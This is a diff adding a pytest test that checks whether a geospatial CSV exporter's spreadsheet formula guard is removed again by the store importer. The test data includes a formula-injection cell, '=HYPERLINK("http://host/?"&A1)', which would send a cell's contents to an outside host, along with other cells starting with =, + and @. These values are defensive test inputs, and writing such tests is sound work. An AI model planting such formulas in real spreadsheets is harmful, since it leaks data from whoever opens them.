@@ -4,6 +4,7 @@ and kept in the side file, GeoParquet 1.1 sorted by date window."""
 from __future__ import annotations
 
 import csv
+import io
 import itertools
 import json
 import subprocess
@@ -16,6 +17,7 @@ import pytest
 
 from geo import paths
 from geo.acled.reader import read_acled_text
+from geo.escape import spreadsheet_cell
 from geo.load import incidents_frame
 from geo.store.importer import import_acled_store, rejected_path
 from tests.store.conftest import acled_csv, acled_rows
@@ -234,3 +236,52 @@ def test_a_file_that_is_not_utf8_text_is_named_as_the_geojson_import_names_it(
     err = capsys.readouterr().err
     assert f"{source}{where}" in err and words in err, err
     assert not (tmp_path / "s.parquet").exists()
+
+
+@pytest.mark.parametrize("workers", [1, 2])
+@pytest.mark.parametrize("blocks", [True, False])
+def test_the_exporters_formula_guard_is_taken_off_as_the_geojson_importer_does(
+    tmp_path, workers, blocks
+):
+    """A CSV written for people has a `'` before each cell a spreadsheet would run (geo.escape
+    .spreadsheet_cell, header too); the store's importer takes exactly that off, whether the
+    file is read in blocks by pyarrow or row by row (a cell with a line break): the values are
+    the original ones, and a negative number, written as it is, stays a number. A refused
+    row goes to the side file guarded again, once."""
+    rows = acled_rows(30, seed=5)
+    if not blocks:
+        rows[4]["notes"] = "two\nlines"
+    rows[0].update(notes='=HYPERLINK("http://host/?"&A1)', actor1="@actor")
+    rows[1].update(location="+Somewhere", notes="'=already quoted", actor1="-x")
+    rows[2].update(source="=APA", notes="-12.5")
+    rows.append(dict(rows[0], latitude="north", event_id_cnty="EVT30"))  # refused
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, lineterminator="\n")
+    writer.writerow([spreadsheet_cell(name) for name in rows[0]])
+    writer.writerows([spreadsheet_cell(cell) for cell in row.values()] for row in rows)
+    source, report, found = run_import(tmp_path, buffer.getvalue(), workers)
+    assert [p.feature_id for p in found] == ["acled-evt30"]
+    assert (report.stored, report.refused) == (30, 1)
+    with open(rejected_path(tmp_path / "store.parquet"), encoding="utf-8", newline="") as handle:
+        side = list(csv.DictReader(handle))
+    assert side[0]["notes"] == "'" + rows[0]["notes"] and side[0]["actor1"] == "'@actor"
+
+    store = gpd.read_parquet(tmp_path / "store.parquet").set_index("id")
+    assert store.loc["acled-evt0", "notes"] == '=HYPERLINK("http://host/?"&A1)'
+    assert store.loc["acled-evt0", "actor1"] == "@actor"
+    assert store.loc["acled-evt1", "location"] == "+Somewhere"
+    assert store.loc["acled-evt1", "notes"] == "'=already quoted"
+    assert store.loc["acled-evt1", "actor1"] == "-x"
+    assert store.loc["acled-evt2", "acled_source"] == "=APA"
+    assert store.loc["acled-evt2", "notes"] == "-12.5"
+    document, _ = read_acled_text(buffer.getvalue(), str(source), country_names=NAMES)
+    expected = incidents_frame(document).set_index("id").loc[store.index]
+    for name in ("notes", "actor1", "location", "acled_source", "fatalities"):
+        assert store[name].astype(object).where(store[name].notna(), None).tolist() == (
+            expected[name].astype(object).where(expected[name].notna(), None).tolist()
+        ), name
+    assert (
+        store.geometry.set_crs(expected.crs, allow_override=True)
+        .geom_equals(expected.geometry)
+        .all()
+    )
